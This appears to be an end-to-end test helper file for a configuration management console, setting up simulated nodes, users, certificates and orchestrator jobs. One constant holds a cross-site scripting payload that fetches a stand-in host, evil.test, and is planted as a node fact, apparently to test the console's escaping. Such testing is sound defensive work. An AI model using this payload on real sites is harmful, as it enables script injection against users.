/** A primary with a console, users, and nodes whose last runs ended in every way. */

import { spawn } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { text } from 'node:stream/consumers';
import { inject } from 'vitest';
import { freePort } from '../../../demo/ports.ts';
import { SimulatedAgent } from '../../../demo/simulated-agent.ts';
import { simulatedFacts } from '../../../demo/simulated-facts.ts';
import { SimulatedPxpAgent } from '../../../demo/simulated-pxp-agent.ts';
import type { SimulatedOutcome } from '../../../demo/simulated-report.ts';
import { createLogger } from '../../../src/platform/log/index.ts';
import {
  createCertificateRequest,
  createKeyPair,
  encodeCertificateRequest,
} from '../../../src/platform/x509/index.ts';
import { TestRepository } from '../../../test/code-manager/repositories.ts';
import { runningSite, type Site } from '../../../test/e2e/support/site.ts';

export const password = 'correct horse battery';
const [consolePort, usersPort] = [await freePort(), await freePort()];
const [jobsPort, brokerPort, codePort] = [await freePort(), await freePort(), await freePort()];
export const origin = `https://localhost:${consolePort}`;
export const usersApi = `https://localhost:${usersPort}/rbac-api`;

/** The names of the nodes, with what their runs report, one after another. */
export const fleet: Readonly<Record<string, readonly SimulatedOutcome[]>> = {
  'db01.e2e.test': ['intentional', 'unchanged', 'failed'],
  'db02.e2e.test': ['intentional', 'failed'],
  'web01.e2e.test': ['intentional', 'corrective', 'unchanged', 'failed', 'unchanged'],
  'web02.e2e.test': ['intentional', 'unchanged', 'corrective'],
  'web03.e2e.test': ['intentional'],
  'web04.e2e.test': ['noop'],
};

/** What a node says of itself to those who look at its facts. */
export const hostileFact = '<img src=x onerror="fetch(`//evil.test`)">';

/** One primary for all scenarios of a file. */
export function consoleSite(): () => Site {
  const settings = {
    node_terminus: 'classifier',
    console_services_port: usersPort,
    console_port: consolePort,
    console_url: origin,
    orchestrator_port: jobsPort,
    pcp_broker_port: brokerPort,
    code_manager_port: codePort,
  };
  return runningSite({ compileServers: 0, settings }, prepareDeploys);
}

/** A control repository with an environment of its own: the others are as the site has staged them. */
function prepareDeploys(site: Site): void {
  const { primaryDirectory } = site.installation;
  commitCode(site, 'first');
  mkdirSync(primaryDirectory, { recursive: true });
  const remote = controlDirectory(site);
  const basedir = join(primaryDirectory, 'code-staging', 'environments');
  writeFileSync(
    join(primaryDirectory, 'r10k.yaml'),
    `---\nsources:\n  control:\n    remote: ${remote}\n    basedir: ${basedir}\n`,
  );
}

function controlDirectory({ directory }: Site): string {
  return join(directory, 'git', 'control');
}

const repositories = new WeakMap<Site, TestRepository>();

/** Another version of the environment `testing` in the control repository. */
export function commitCode(site: Site, message: string): void {
  const repository = repositories.get(site) ?? new TestRepository(controlDirectory(site));
  repositories.set(site, repository);
  repository.commit('testing', { 'manifests/site.pp': `notify { 'version': message => '${message}' }\n` });
}

/** Users with passwords. */
export async function createUsers(site: Site): Promise<void> {
  const data = ['--data', site.installation.primaryDirectory];
  await bunraku(site, ['user', 'password', 'admin', ...data], password);
  await bunraku(site, ['user', 'create', 'guest', ...data], password);
}

async function bunraku({ installation }: Site, args: readonly string[], input: string): Promise<void> {
  const { node, project } = installation.options;
  const child = spawn(node, [join(project, 'dist', 'main.js'), ...args]);
  child.stdin.end(input);
  const ended = new Promise<number | null>((resolve) => {
    child.on('close', resolve);
  });
  const [complaint, code] = await Promise.all([text(child.stderr), ended]);
  if (code !== 0) throw new Error(complaint);
}

/** Lets each node run as often as is listed. */
export async function runFleet(site: Site): Promise<void> {
  await Promise.all(Object.entries(fleet).map(([certname, outcomes]) => runNode(site, certname, outcomes)));
}

/** Lets a node run once for each outcome. */
export async function runNode(
  site: Site,
  certname: string,
  outcomes: readonly SimulatedOutcome[],
): Promise<void> {
  const index = Object.keys(fleet).indexOf(certname);
  const agent = new SimulatedAgent({
    certname,
    sslDir: join(site.directory, 'agents', certname, 'ssl'),
    serverUrl: site.installation.primaryUrl,
    environment: 'production',
    facts: {
      ...simulatedFacts(certname, index),
      ...(index === 0 ? { hostile: hostileFact } : {}),
      ...packageFacts(index),
    },
    key: { kind: 'ec', curve: 'P-256' },
    outcome: (run) => outcomes[run] ?? 'unchanged',
    log: createLogger({ level: 'warn', format: 'text' }),
    signal: new AbortController().signal,
  });
  for (const _ of outcomes) await agent.run();
  agent.close();
}

/** Two nodes tell of their packages; for one of them an update waits. */
function packageFacts(index: number) {
  if (index !== 0 && index !== 2) return {};
  const openssl = index === 0 ? '3.0.16-1~deb12u1' : '3.0.17-1~deb12u2';
  return {
    _puppet_inventory_1: {
      packages: [
        ['openssl', openssl, 'apt'],
        ['zsh', '5.9-4+b2', 'apt'],
      ],
    },
    pe_patch: { security_package_updates: index === 0 ? ['openssl'] : [], package_updates: ['openssl'] },
  };
}

/** Asks for a certificate as an agent does. @param altNames - besides its own name */
export async function requestCertificate(
  { installation }: Site,
  certname: string,
  altNames: readonly string[] = [],
): Promise<void> {
  const keys = await createKeyPair({ kind: 'ec', curve: 'P-256' });
  const request = await createCertificateRequest(
    { certname, ...(altNames.length === 0 ? {} : { altNames: altNames.join() }) },
    keys,
  );
  const client = installation.operator();
  try {
    const { status } = await client.send({
      method: 'PUT',
      url: `${installation.primaryUrl}/puppet-ca/v1/certificate_request/${certname}`,
      headers: { 'content-type': 'text/plain' },
      body: encodeCertificateRequest(request),
    });
    if (status !== 200) throw new Error(`the authority answers ${status}`);
  } finally {
    client.close();
  }
}

/** Changes a group as the command line would, beside the console. */
export async function changeGroup(
  site: Site,
  name: string,
  change: Readonly<Record<string, unknown>>,
): Promise<void> {
  const url = `https://localhost:${usersPort}/classifier-api/v1/groups`;
  const groups = (await askAsOperator(site, 'GET', url)) as readonly {
    readonly id: string;
    readonly name: string;
  }[];
  const id = groups.find((group) => group.name === name)?.id ?? '';
  await askAsOperator(site, 'POST', `${url}/${id}`, change);
}

/** Runs a line on nodes, as the command line would. @returns the number of the job */
export async function runCommand(site: Site, order: Readonly<Record<string, unknown>>): Promise<string> {
  const url = `https://localhost:${jobsPort}/orchestrator/v1/command/run_command`;
  const { job } = (await askAsOperator(site, 'POST', url, order)) as {
    readonly job: { readonly name: string };
  };
  return job.name;
}

/** Stops a job. What runs there goes on. */
export async function stopJob(site: Site, job: string): Promise<void> {
  await askAsOperator(site, 'POST', `https://localhost:${jobsPort}/orchestrator/v1/command/stop`, { job });
}

/** As somebody who may do everything. */
export async function askAsOperator(
  { installation }: Site,
  method: 'GET' | 'POST' | 'PUT' | 'DELETE',
  url: string,
  asked?: Readonly<Record<string, unknown>>,
): Promise<unknown> {
  const client = installation.operator();
  try {
    const { body, status } = await client.send({
      method,
      url,
      ...(asked === undefined
        ? {}
        : { headers: { 'content-type': 'application/json' }, body: JSON.stringify(asked) }),
    });
    if (status >= 400) throw new Error(`${url} answers ${status}: ${body.toString('utf8')}`);
    return body.length === 0 ? undefined : JSON.parse(body.toString('utf8'));
  } finally {
    client.close();
  }
}

/** Connects the PXP agent of a node that has run. */
export async function connectNode(site: Site, certname: string): Promise<SimulatedPxpAgent> {
  return await SimulatedPxpAgent.connect({
    certname,
    sslDirectory: join(site.directory, 'agents', certname, 'ssl'),
    broker: `wss://localhost:${brokerPort}/pcp2/agent`,
  });
}

/** Where pictures of all pages go; they replace those of earlier runs. */
export function pictureDirectory(): string {
  const directory = join(inject('project'), '.cache', 'console-pictures');
  mkdirSync(directory, { recursive: true });
  return directory;
}
